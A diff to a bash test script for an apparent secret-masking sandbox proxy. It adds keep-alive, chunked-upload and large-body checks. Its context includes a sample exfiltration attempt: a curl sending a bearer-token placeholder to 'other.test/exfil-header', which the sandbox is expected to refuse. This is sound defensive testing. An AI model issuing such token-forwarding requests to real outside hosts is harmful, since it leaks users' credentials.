@@ -81,6 +81,29 @@ urllib_req=$(requests_to /py-urllib)
 check "urllib POST: the value in the header" grep -qF "[\"X-Token\", \"$VALUE\"]" <<<"$urllib_req"
 check "urllib POST: the body intact" grep -qF '"body": "body!"' <<<"$urllib_req"
 
+# Keep-alive: several requests over one intercepted connection (curl reuses it, so do
+# requests' sessions); a chunked upload; a large response body intact through the masking.
+run sbx "${pol[@]}" -- bash -c "$C -H \"Authorization: Bearer \$API_TOKEN\" https://api.secret.test/ka-1 \
+    https://api.secret.test/ka-2 https://api.secret.test/ka-3 -o /dev/null -o /dev/null -o /dev/null -w '%{num_connects} '; \
+    printf 'chunked-body' | $C -H 'Transfer-Encoding: chunked' -H \"X-T: \$API_TOKEN\" --data-binary @- \
+      https://api.secret.test/chunked-up -o /dev/null -w '%{http_code}'"
+check "three requests on one kept-alive intercepted connection, all with the value ($OUT)" \
+    bash -c "test \$(grep -cF 'Bearer $VALUE' <<<'$(requests_to /ka-1; requests_to /ka-2; requests_to /ka-3)') = 3"
+check "curl opened one connection for the three (new connections per request: $OUT)" grep -q "^1 0 0 200" <<<"$OUT"
+check "a chunked upload arrives decoded by the server, with the value" \
+    bash -c "grep -F '\"X-T\", \"$VALUE\"' <<<'$(requests_to /chunked-up)' | grep -qF '\"body\": \"chunked-body\"'"
+run sbx "${pol[@]}" -- python3 -c '
+import os, requests
+s = requests.Session(); s.headers["Authorization"] = "token " + os.environ["API_TOKEN"]
+big = "z" * 300000
+codes = [s.post("https://api.secret.test/py-session-%d" % i, data=big, timeout=15) for i in range(3)]
+print([c.status_code for c in codes], all(len(c.json()["body"]) == len(big) for c in codes))'
+check "python requests.Session: three POSTs of 300 kB, echoed intact ($OUT)" grep -q "^\[200, 200, 200\] True" <<<"$OUT"
+check "audit: one intercepted connection carried several requests" python3 -c "
+import json
+ls = [json.loads(l) for l in open('$audit') if '\"intercepted\"' in l]
+assert any(l.get('requests', 0) >= 3 for l in ls), [l.get('requests') for l in ls]"
+
 # ---- the same placeholder to other hosts: refused, logged, never arrives ------------------------
 before=$(server_log_count)
 run sbx "${pol[@]}" -- bash -c "$C -i -H \"Authorization: Bearer \$API_TOKEN\" http://other.test/exfil-header"
@@ -144,7 +167,7 @@ check "the inside scan saw the placeholder" grep -q "exg_ph_API_TOKEN_" <<<"$OUT
 last_output_lacks "$VALUE" "the real value is not in the env, /proc/*/environ, cmdlines or mounted files"
 run sbx "${pol[@]}" -- bash -c "grep -rF -l '$VALUE' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null | head; echo DONE"
 # (the needle itself is on the command line: it can only be found through /proc, excluded here)
-check "a search of the sandbox's whole file tree finds no file holding the value" test "$(tr -d '\n' <<<"$OUT")" = DONE || show_last
+check "a search of the sandbox's whole file tree finds no file holding the value" test "$(tr -d '\n' <<<"$OUT")" = DONE
 
 # ---- an upstream the host does not trust --------------------------------------------------------
 run sbx "${pol[@]}" -- bash -c "$C -i -H \"Authorization: Bearer \$API_TOKEN\" https://bad.secret.test/untrusted"
